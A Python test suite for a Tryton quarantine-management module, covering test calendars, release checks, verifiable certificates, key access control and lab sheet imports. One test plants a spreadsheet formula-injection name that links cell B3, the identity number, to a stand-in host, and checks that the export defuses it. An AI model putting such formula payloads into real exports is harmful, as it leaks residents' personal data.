# This file is part of the quarantine module.  See README.md for licensing.
import datetime as dt
import io
import urllib.parse

from pypdf import PdfReader

from trytond.exceptions import UserError
from trytond.modules.quarantine.tests.tools import (
    ActivatedTestCase,
    active_site, create_party, create_person, create_stay,
    load_translations)
from trytond.pool import Pool
from trytond.model.exceptions import AccessError
from trytond.transaction import Transaction, check_access
from trytond.tests.test_tryton import with_transaction


def admitted_stay(days_ago=13, name="A", sequence='111', arrived_on_day=1):
    """A resident on the 14-day regime whose day 1 (last exposure) was
    `days_ago` days ago: with 13, today is the exit day; the resident
    arrived on protocol day `arrived_on_day`"""
    pool = Pool()
    Stay = pool.get('quarantine.stay')
    Date = pool.get('ir.date')
    today = Date.today()
    site = active_site(rooms=2, code=f'S{sequence}')
    stay = create_stay(create_person(name, sequence=sequence), site,
        site.rooms[0],
        exposure_date=today - dt.timedelta(days=days_ago),
        arrival_date=today - dt.timedelta(
            days=days_ago - arrived_on_day + 1))
    Stay.admit([stay])
    return Stay(stay.id)


def pdf_text(content):
    return ''.join(p.extract_text() for p in PdfReader(
            io.BytesIO(content)).pages)


class ReleaseTestCase(ActivatedTestCase):
    "Test calendar, results, release gate and certificate"

    def record(self, samples, result='negative', institution=None,
            reagent="华大"):
        Sample = Pool().get('quarantine.sample')
        Sample.record_results(samples, result,
            institution=institution or self.lab_a, reagent=reagent)

    def labs(self):
        self.lab_a = create_party("疾控中心检验所")
        self.lab_b = create_party("第三方检测机构")

    @with_transaction()
    def test_calendar_from_regime(self):
        "Days 1, 4, 7, 10 and two specimens on day 14"
        stay = admitted_stay()
        samples = sorted(stay.samples, key=lambda s: (s.day, s.id))
        self.assertEqual([s.day for s in samples], [1, 4, 7, 10, 14, 14])
        self.assertEqual(samples[0].planned_date, stay.exposure_date)
        self.assertEqual(samples[-1].planned_date, stay.end_date)
        self.assertEqual([s.exit_sample for s in samples],
            [False] * 4 + [True] * 2)

    @with_transaction()
    def test_extension_replans_pending_only(self):
        "Extending the stay moves the exit day; results taken stay"
        Stay = Pool().get('quarantine.stay')
        self.labs()
        stay = admitted_stay()
        day1, = [s for s in stay.samples if s.day == 1]
        self.record([day1])
        Stay.change_end_dates([stay], stay.end_date + dt.timedelta(days=7),
            "Contact of a positive on the same floor")
        stay = Stay(stay.id)
        days = sorted(s.day for s in stay.samples)
        self.assertEqual(days, [1, 4, 7, 10, 14, 21, 21])
        self.assertIn(day1, stay.samples)
        self.assertEqual(
            [s.planned_date for s in stay.samples if s.day == 21],
            [stay.end_date] * 2)

    @with_transaction()
    def test_no_test_before_arrival(self):
        """Counted from the last exposure, the tests of the days before
        arrival become one test on the arrival day"""
        for arrived_on_day, days in [
                (2, [2, 4, 7, 10, 14, 14]),
                (4, [4, 7, 10, 14, 14]),
                (5, [5, 7, 10, 14, 14]),
                ]:
            with self.subTest(arrived_on_day=arrived_on_day):
                stay = admitted_stay(arrived_on_day=arrived_on_day,
                    sequence=f'30{arrived_on_day}')
                samples = sorted(stay.samples, key=lambda s: (s.day, s.id))
                self.assertEqual([s.day for s in samples], days)
                self.assertEqual(samples[0].planned_date, stay.arrival_date)
                self.assertEqual(
                    [s.planned_date - stay.exposure_date for s in samples],
                    [dt.timedelta(days=d - 1) for d in days])

    @with_transaction()
    def test_replan_keeps_sample_codes(self):
        """Extended or shortened, a pending sample keeps the code printed on
        its tube: the exit pair moves to the new exit day, a routine test
        is added or removed"""
        Stay = Pool().get('quarantine.stay')
        self.labs()
        stay = admitted_stay(days_ago=5)
        day1, = [s for s in stay.samples if s.day == 1]
        self.record([day1])

        def calendar(stay):
            return sorted((s.day, s.exit_sample, s.code, s.planned_date)
                for s in Stay(stay.id).samples)
        before = {(day, exit_): code
            for day, exit_, code, _ in calendar(stay)}
        exit_codes = sorted(code for _, exit_, code, _ in calendar(stay)
            if exit_)
        self.assertEqual(len(exit_codes), 2)

        Stay.change_end_dates([stay], stay.end_date + dt.timedelta(days=7),
            "Contact of a positive on the same floor")
        after = calendar(stay)
        self.assertEqual([(day, exit_) for day, exit_, *_ in after], [
                (1, False), (4, False), (7, False), (10, False),
                (14, False), (21, True), (21, True)])
        codes = {(day, exit_): code for day, exit_, code, _ in after}
        for day in [1, 4, 7, 10]:
            self.assertEqual(codes[(day, False)], before[(day, False)])
        self.assertEqual(sorted(c for d, e, c, _ in after if e), exit_codes)
        self.assertEqual({p for d, e, c, p in after if e},
            {Stay(stay.id).end_date})
        self.assertNotIn(codes[(14, False)], before.values())

        Stay.change_end_dates([stay], stay.end_date - dt.timedelta(days=11),
            "Period recounted from the last exposure")
        after = calendar(stay)
        self.assertEqual([(day, exit_) for day, exit_, *_ in after], [
                (1, False), (4, False), (7, False), (10, True),
                (10, True)])
        self.assertEqual(sorted(c for d, e, c, _ in after if e), exit_codes)
        self.assertEqual(after[0][2], day1.code)

    @with_transaction()
    def test_record_results_reloads(self):
        """Recording results ends by reloading the list: the samples done
        leave the selection, the next batch starts from none"""
        pool = Pool()
        Record = pool.get('quarantine.sample.record', type='wizard')
        self.labs()
        stay = admitted_stay()
        routine = [s.id for s in stay.samples if not s.exit_sample]
        with Transaction().set_context(active_model='quarantine.sample',
                active_ids=routine, active_id=routine[0]):
            session_id, _, _ = Record.create()
            start = Record.execute(session_id, {}, 'start')
            values = start['view']['defaults']
            self.assertEqual(values['count'], len(routine))
            result = Record.execute(session_id, {'start': {
                        'result': 'negative', 'institution': self.lab_a.id,
                        'reagent': "华大",
                        'collected_at': values['collected_at']}}, 'record')
            self.assertEqual(result, {})
            self.assertEqual(Record.delete(session_id), 'reload')
        Sample = pool.get('quarantine.sample')
        self.assertEqual({s.result for s in Sample.browse(routine)},
            {'negative'})

    @with_transaction()
    def test_replan_counts_day_1_taken_before(self):
        """A day-1 test planned before arrival (by an earlier version) and
        taken stands for the arrival day's when the stay is re-planned"""
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Sample = pool.get('quarantine.sample')
        self.labs()
        stay = admitted_stay(days_ago=5, arrived_on_day=2)
        first, = [s for s in stay.samples if s.day == 2]
        Sample.write([first], {'day': 1,
                'planned_date': stay.exposure_date})
        self.record([first])
        Stay.change_end_dates([stay], stay.end_date + dt.timedelta(days=7),
            "Contact of a positive on the same floor")
        self.assertEqual(sorted((s.day, s.exit_sample)
                for s in Stay(stay.id).samples), [
                (1, False), (4, False), (7, False), (10, False),
                (14, False), (21, True), (21, True)])

    @with_transaction()
    def test_release_refusals(self):
        "Early, pending, same institution or reagent: refused, with reasons"
        Stay = Pool().get('quarantine.stay')
        self.labs()
        early = admitted_stay(days_ago=10, sequence='222')
        with self.assertRaisesRegex(UserError, 'period ends on'):
            Stay.release([early])

        stay = admitted_stay()
        with self.assertRaisesRegex(UserError, 'day 1 .* is Pending'):
            Stay.release([stay])
        routine = [s for s in stay.samples if not s.exit_sample]
        first, second = [s for s in stay.samples if s.exit_sample]
        self.record(routine)
        self.record([first, second])
        with self.assertRaisesRegex(UserError, 'different institutions'):
            Stay.release([stay])
        self.assertEqual(Stay(stay.id).state, 'admitted')

    @with_transaction()
    def test_release_same_reagent_refused(self):
        "Two institutions but the same reagent is not dual testing"
        Stay = Pool().get('quarantine.stay')
        self.labs()
        stay = admitted_stay()
        first, second = [s for s in stay.samples if s.exit_sample]
        self.record([s for s in stay.samples if not s.exit_sample])
        self.record([first], institution=self.lab_a, reagent="华大")
        self.record([second], institution=self.lab_b, reagent=" 华大 ")
        with self.assertRaisesRegex(UserError, 'different reagents'):
            Stay.release([stay])

    def release(self, stay):
        "Record a complete negative calendar and release"
        Stay = Pool().get('quarantine.stay')
        first, second = [s for s in stay.samples if s.exit_sample]
        self.record([s for s in stay.samples if not s.exit_sample])
        self.record([first], institution=self.lab_a, reagent="华大")
        self.record([second], institution=self.lab_b, reagent="达安")
        Stay.release([stay])
        return Stay(stay.id)

    @with_transaction()
    def test_certificate_pdf(self):
        "The certificate holds the name, number, dates; only released"
        pool = Pool()
        Certificate = pool.get(
            'quarantine.stay.release_certificate', type='report')
        self.labs()
        stay = admitted_stay(name="张小明")
        with self.assertRaisesRegex(UserError, 'not released'):
            Certificate.execute([stay.id], {})
        stay = self.release(stay)
        other = self.release(admitted_stay(name="李四", sequence='333'))
        extension, content, _, _ = Certificate.execute(
            [stay.id, other.id], {})
        self.assertEqual(extension, 'pdf')
        reader = PdfReader(io.BytesIO(content))
        self.assertEqual(len(reader.pages), 2)
        text = pdf_text(content)
        for value in ["张小明", stay.certificate_number,
                str(stay.release_date), str(stay.end_date),
                stay.identity_number[-4:], "疾控中心检验所", "达安",
                "李四", other.certificate_number]:
            self.assertIn(value, text)
        self.assertNotIn(stay.identity_number, text)
        # the verification line may wrap
        self.assertIn(stay.certificate_code(), ''.join(text.split()))

    @with_transaction()
    def test_certificate_collection_dates(self):
        """采样日期 is the day each specimen was taken; a result recorded
        without it shows the planned day, marked 计划"""
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Sample = pool.get('quarantine.sample')
        Certificate = pool.get(
            'quarantine.stay.release_certificate', type='report')
        load_translations('quarantine')
        self.labs()
        stay = admitted_stay(name="张小明")
        routine = sorted((s for s in stay.samples if not s.exit_sample),
            key=lambda s: s.day)
        late, *others = routine
        # taken the morning after the planned day
        for sample in others:
            Sample.record_results([sample], 'negative',
                institution=self.lab_a, reagent="华大",
                collected_at=dt.datetime.combine(
                    sample.planned_date + dt.timedelta(days=1),
                    dt.time(9, 0)))
        # a result entered without the time it was taken
        Sample.write([late], {'result': 'negative',
                'institution': self.lab_a.id, 'reagent': "华大"})
        first, second = [s for s in stay.samples if s.exit_sample]
        self.record([first], institution=self.lab_a, reagent="华大")
        self.record([second], institution=self.lab_b, reagent="达安")
        Stay.release([stay])
        _, content, _, _ = Certificate.execute([stay.id], {})
        text = pdf_text(content)
        for sample in others:
            self.assertIn(
                str(sample.planned_date + dt.timedelta(days=1)), text)
            self.assertNotIn(str(sample.planned_date), text)
        self.assertIn(f"{late.planned_date}（计划）", text)

    @with_transaction()
    def test_community_notification(self):
        """Released residents go to their community with home tests 2 and
        7, two specimens each"""
        from openpyxl import load_workbook
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Notify = pool.get('quarantine.stay.notify', type='wizard')
        self.labs()
        stay = admitted_stay()
        Stay.write([stay], {'community': "和平社区"})
        stay = self.release(Stay(stay.id))
        self.assertEqual(
            sorted((f.day, f.specimen, f.planned_date - stay.release_date)
                for f in stay.home_monitoring),
            [(2, 1, dt.timedelta(days=2)), (2, 2, dt.timedelta(days=2)),
                (7, 1, dt.timedelta(days=7)), (7, 2, dt.timedelta(days=7))])
        session_id, _, _ = Notify.create()
        wizard = Notify(session_id)
        wizard.start.date_from = wizard.start.date_to = stay.release_date
        wizard.start.site = None
        self.assertEqual(wizard.transition_export(), 'result')
        self.assertEqual(wizard.result.count, 1)
        workbook = load_workbook(io.BytesIO(wizard.result.file))
        self.assertEqual(workbook.sheetnames, ["和平社区"])
        row = [c.value for c in workbook["和平社区"][3]]
        self.assertEqual(row[1], stay.identity_number)
        self.assertEqual(row[5], stay.certificate_number)

    @with_transaction()
    def test_notification_of_typed_texts(self):
        """A community with characters a sheet title refuses gets its sheet,
        and a name typed like a formula is exported as text"""
        from openpyxl import load_workbook
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Party = pool.get('party.party')
        Notify = pool.get('quarantine.stay.notify', type='wizard')
        self.labs()
        stay = admitted_stay()
        name = '=HYPERLINK("http://example.invalid/?"&B3,"点击")'
        Party.write([stay.person], {'name': name})
        Stay.write([stay], {'community': "和平社区:一/二"})
        stay = self.release(Stay(stay.id))
        session_id, _, _ = Notify.create()
        wizard = Notify(session_id)
        wizard.start.date_from = wizard.start.date_to = stay.release_date
        wizard.start.site = None
        self.assertEqual(wizard.transition_export(), 'result')
        workbook = load_workbook(io.BytesIO(wizard.result.file))
        self.assertEqual(workbook.sheetnames, ["和平社区_一_二"])
        sheet = workbook["和平社区_一_二"]
        self.assertIn("和平社区:一/二", sheet['A1'].value)
        self.assertEqual(sheet['A3'].value, name)
        self.assertEqual(sheet['A3'].data_type, 's')

    @with_transaction()
    def test_sampling_roster(self):
        """Today's roster lists the residents to sample, room by room,
        with their category and test, and the staff with their whole
        work group"""
        pool = Pool()
        Roster = pool.get('quarantine.site.sampling_roster', type='report')
        Date = pool.get('ir.date')
        Staff = pool.get('quarantine.staff')
        Party = pool.get('party.party')
        load_translations('quarantine')
        stay = admitted_stay(days_ago=3)
        nurse, = Party.create([{'name': "护士甲"}])
        Staff.create([{'site': stay.site.id, 'party': nurse.id,
                    'role': 'medical'}])
        day4, = [s for s in stay.samples if s.day == 4]
        self.assertEqual(day4.planned_date, Date.today())
        with Transaction().set_context(language='zh_CN'):
            _, content, _, _ = Roster.execute([stay.site.id], {})
        text = pdf_text(content)
        self.assertIn(stay.person.rec_name, text)
        self.assertIn(day4.code, text)
        self.assertIn(stay.room.name, text)
        # 类别 is the resident's category; the test has its own column
        self.assertIn("类别", text)
        self.assertIn("密切接触者", text)
        self.assertIn("第4天", text)
        # the staff are sampled too, listed with their work group, whole
        self.assertIn("护士甲", text)
        self.assertIn("医务人员", text)
        self.assertIn("（健康观察组）", text)
        self.assertNotIn("…", text)

        PrintRoster = pool.get('quarantine.site.print_roster', type='wizard')
        session_id, _, _ = PrintRoster.create()
        wizard = PrintRoster(session_id)
        wizard.start.site = stay.site
        wizard.start.date = Date.today()
        with Transaction().set_context(language='zh_CN'):
            self.assertEqual(wizard.transition_excel(), 'result')
        from openpyxl import load_workbook
        sheet = load_workbook(io.BytesIO(wizard.result.file)).active
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[1][4:7], ("类别", "检测", "样本编码"))
        self.assertIn(("密切接触者", "第4天", day4.code),
            [row[4:7] for row in rows[2:]])
        self.assertIn(("医务人员（健康观察组）", None, None),
            [row[4:7] for row in rows[2:]])

    @with_transaction()
    def test_release_and_certificate(self):
        "Everything negative: released, numbered, room cleaned, verifiable"
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Room = pool.get('quarantine.room')
        Log = pool.get('ir.model.log')
        self.labs()
        stay = admitted_stay()
        room = stay.room
        stay = self.release(stay)
        self.assertEqual(stay.state, 'released')
        self.assertRegex(stay.certificate_number, r'^JC\d{4}-\d{6}$')
        self.assertEqual(Room(room.id).state, 'cleaning')
        Transaction()._store_log_records()
        self.assertEqual([l.target for l in Log.search([
                        ('resource', '=', str(stay)),
                        ('event', '=', 'transition'),
                        ], order=[('id', 'ASC')])],
            ['state:admitted', 'state:released'])
        # The room's environment sample is part of its turnover
        turnover, = Room(room.id).turnovers
        self.assertEqual(turnover.sample_result, 'pending')

        code = stay.certificate_code()
        checked = Stay.verify_certificate(stay.certificate_number, code)
        self.assertTrue(checked['valid'])
        self.assertTrue(checked['identity_number'].endswith(
                stay.identity_number[-4:]))
        self.assertNotIn(stay.identity_number[:6],
            checked['identity_number'])
        self.assertEqual(
            Stay.verify_certificate(stay.certificate_number, 'FFFF'),
            {'valid': False})
        self.assertEqual(Stay.verify_certificate('JC-NONE', code),
            {'valid': False})

    @with_transaction()
    def test_certificate_keys_unreadable(self):
        """No user reads or writes the keys of the verification codes,
        administrators included, and the certificates still verify"""
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        User = pool.get('res.user')
        Configuration = pool.get('quarantine.configuration')
        Key = pool.get('quarantine.certificate.key')
        ModelData = pool.get('ir.model.data')
        self.labs()
        stay = admitted_stay()
        stay = self.release(stay)
        code = stay.certificate_code()
        # generated at install, 256 bits, recorded by the certificate
        key, = Key.search([])
        self.assertEqual(stay.certificate_key, key.key_id)
        self.assertEqual(len(bytes.fromhex(key.secret)), 32)
        secrets_before = [(k.key_id, k.secret) for k in Key.search([])]
        # the configuration holds no secret any more
        self.assertNotIn('certificate_secret', Configuration._fields)
        for login, group in [('nobody', None), ('medic', 'group_medical'),
                ('chief', 'group_admin')]:
            groups = [ModelData.get_id('quarantine', group)] if group else []
            user, = User.create([{'login': login, 'name': login,
                        'groups': [('add', groups)],
                        'quarantine_sites': [('add', [stay.site.id])]}])
            with self.subTest(user=login), \
                    Transaction().set_user(user.id), check_access():
                with self.assertRaises(AccessError):
                    Key.read([key.id], ['secret'])
                with self.assertRaises(AccessError):
                    Key.search_read([], fields_names=['key_id', 'secret'])
                with self.assertRaises(AccessError):
                    Key.search([('secret', 'like', '0%')])
                with self.assertRaises(AccessError):
                    Key.write([Key(key.id)], {'secret': '00' * 32})
                with self.assertRaises(AccessError):
                    Key.create([{'key_id': 'K-MINE', 'secret': '00' * 32}])
                with self.assertRaises(AccessError):
                    Key.delete([Key(key.id)])
                if group:
                    self.assertTrue(Stay.verify_certificate(
                            stay.certificate_number, code)['valid'])
        self.assertEqual(
            [(k.key_id, k.secret) for k in Key.search([])], secrets_before)

    @with_transaction()
    def test_certificate_code_bits(self):
        """The code is 20 base32 characters (100 bits), printed on the
        certificate and carried by its QR code; typed in groups or in lower
        case it still verifies"""
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Configuration = pool.get('quarantine.configuration')
        Certificate = pool.get(
            'quarantine.stay.release_certificate', type='report')
        self.labs()
        stay = admitted_stay()
        stay = self.release(stay)
        code = stay.certificate_code()
        self.assertRegex(code, r'^[A-Z2-7]{20}$')
        config = Configuration(1)
        config.verification_url = 'https://jc.example.gov.cn/'
        config.save()
        data = Certificate.certificate(stay)
        database = urllib.parse.quote(Transaction().database.name, safe='')
        self.assertEqual(data['qr_payload'],
            f'https://jc.example.gov.cn/{database}/quarantine/verify'
            f'?number={stay.certificate_number}&code={code}')
        self.assertIn(code, data['verification'])
        _, content, _, _ = Certificate.execute([stay.id], {})
        self.assertIn(code, ''.join(pdf_text(content).split()))
        grouped = '-'.join(code[i:i + 5] for i in range(0, 20, 5)).lower()
        self.assertTrue(Stay.verify_certificate(
                stay.certificate_number, grouped)['valid'])
        self.assertFalse(Stay.verify_certificate(
                stay.certificate_number, code[:16])['valid'])
        self.assertFalse(Stay.verify_certificate(
                stay.certificate_number, code + 'A')['valid'])
        self.assertFalse(Stay.verify_certificate(
                stay.certificate_number, '核验码')['valid'])

    @with_transaction()
    def test_positive_flags_and_blocks(self):
        "A positive result flags the stay, alerts and blocks its release"
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        User = pool.get('res.user')
        ModelData = pool.get('ir.model.data')
        self.labs()
        stay = admitted_stay()
        medical = ModelData.get_id('quarantine', 'group_medical')
        other_site = active_site(rooms=1, code='OTHER')
        User.create([
                {'login': 'medic', 'name': "Medic", 'groups': [
                        ('add', [medical])],
                    'quarantine_sites': [('add', [stay.site.id])]},
                {'login': 'other', 'name': "Other", 'groups': [
                        ('add', [medical])],
                    'quarantine_sites': [('add', [other_site.id])]},
                ])
        day1, = [s for s in stay.samples if s.day == 1]
        self.record([day1], result='positive')
        stay = Stay(stay.id)
        self.assertTrue(stay.positive)
        self.assertTrue(stay.health_flag)
        # the medical staff of the site (and administrators) are alerted
        notified = {n.user.login for n in Transaction().user_notifications}
        self.assertIn('medic', notified)
        self.assertNotIn('other', notified)
        self.record([s for s in stay.samples if s.result == 'pending'])
        with self.assertRaisesRegex(UserError, 'positive'):
            Stay.release([stay])

    @with_transaction()
    def test_invalid_result_needs_resample(self):
        "An invalid result is replaced by a new specimen before release"
        pool = Pool()
        Stay = pool.get('quarantine.stay')
        Sample = pool.get('quarantine.sample')
        self.labs()
        stay = admitted_stay()
        day4, = [s for s in stay.samples if s.day == 4]
        self.record([day4], result='invalid')
        with self.assertRaisesRegex(UserError, 'day 4 .* is Invalid'):
            Stay.release([stay])
        Sample.resample([day4])
        new, = Sample.search([('stay', '=', stay.id), ('day', '=', 4),
                ('result', '=', 'pending')])
        self.assertTrue(Sample(day4.id).resampled)

    @with_transaction()
    def test_result_on_cancelled_stay_refused(self):
        "A result for a cancelled stay is refused"
        Stay = Pool().get('quarantine.stay')
        self.labs()
        stay = admitted_stay()
        Stay.cancel([stay])
        with self.assertRaisesRegex(UserError, 'is Cancelled'):
            self.record(list(stay.samples)[:1])


class LabSheetTestCase(ActivatedTestCase):
    "A laboratory's result sheet"

    def run_import(self, rows, header=None):
        from openpyxl import Workbook
        Import = Pool().get('quarantine.sample.import', type='wizard')
        workbook = Workbook()
        sheet = workbook.active
        sheet.append(header or ["样本编码", "身份证号", "检测结果", "采样机构",
                "检测试剂", "采样时间"])
        for row in rows:
            sheet.append(row)
        stream = io.BytesIO()
        workbook.save(stream)
        session_id, _, _ = Import.create()
        wizard = Import(session_id)
        wizard.start.file = stream.getvalue()
        return wizard.transition_import_(), wizard

    @with_transaction()
    def test_results_by_code_and_identity(self):
        "Results found by sample code or by identity number"
        Sample = Pool().get('quarantine.sample')
        create_party("示范市疾控中心")
        stay = admitted_stay(days_ago=3)
        day1, day4 = sorted([s for s in stay.samples if s.day in {1, 4}],
            key=lambda s: s.day)
        now = dt.datetime.now()
        state, _ = self.run_import([
                [day1.code, None, "阴性", "示范市疾控中心", "华大", now],
                [None, stay.identity_number, "阳性", "示范市疾控中心", "达安",
                    now],
                ])
        self.assertEqual(state, 'end')
        self.assertEqual(Sample(day1.id).result, 'negative')
        self.assertEqual(Sample(day4.id).result, 'positive')
        self.assertEqual(Sample(day4.id).reagent, "达安")
        self.assertTrue(Sample(day4.id).stay.positive)

    @with_transaction()
    def test_bad_sheet_changes_nothing(self):
        "Unknown identity, unknown lab, text time: reported, nothing saved"
        Sample = Pool().get('quarantine.sample')
        create_party("示范市疾控中心")
        stay = admitted_stay(days_ago=3)
        day1, = [s for s in stay.samples if s.day == 1]
        now = dt.datetime.now()
        state, wizard = self.run_import([
                [day1.code, None, "阴性", "示范市疾控中心", "华大", now],
                [None, "11010519491231002X", "阴性", "示范市疾控中心", "华大",
                    now],
                ["S999999999", None, "阴性", "无名检测所", "华大", now],
                [None, stay.identity_number, "待定", "示范市疾控中心", "华大",
                    "今天上午"],
                ])
        self.assertEqual(state, 'errors')
        summary = wizard.errors.summary
        self.assertIn('3 rows', summary)
        self.assertIn('No admitted resident with the identity number '
            '11010519491231002X', summary)
        self.assertIn('No sample has the code S999999999', summary)
        self.assertIn('"无名检测所" is not registered', summary)
        self.assertIn('Unknown result "待定"', summary)
        self.assertIn('"今天上午" is text', summary)
        self.assertEqual(
            Sample.search_count([('result', '!=', 'pending')]), 0)

    @with_transaction()
    def test_sheet_without_identification_column(self):
        "A sheet with neither code nor identity column is refused"
        state, wizard = self.run_import([["阴性", "X", "Y", None]],
            header=["检测结果", "采样机构", "检测试剂", "采样时间"])
        self.assertEqual(state, 'errors')
        self.assertIn('sample code column', wizard.errors.summary)
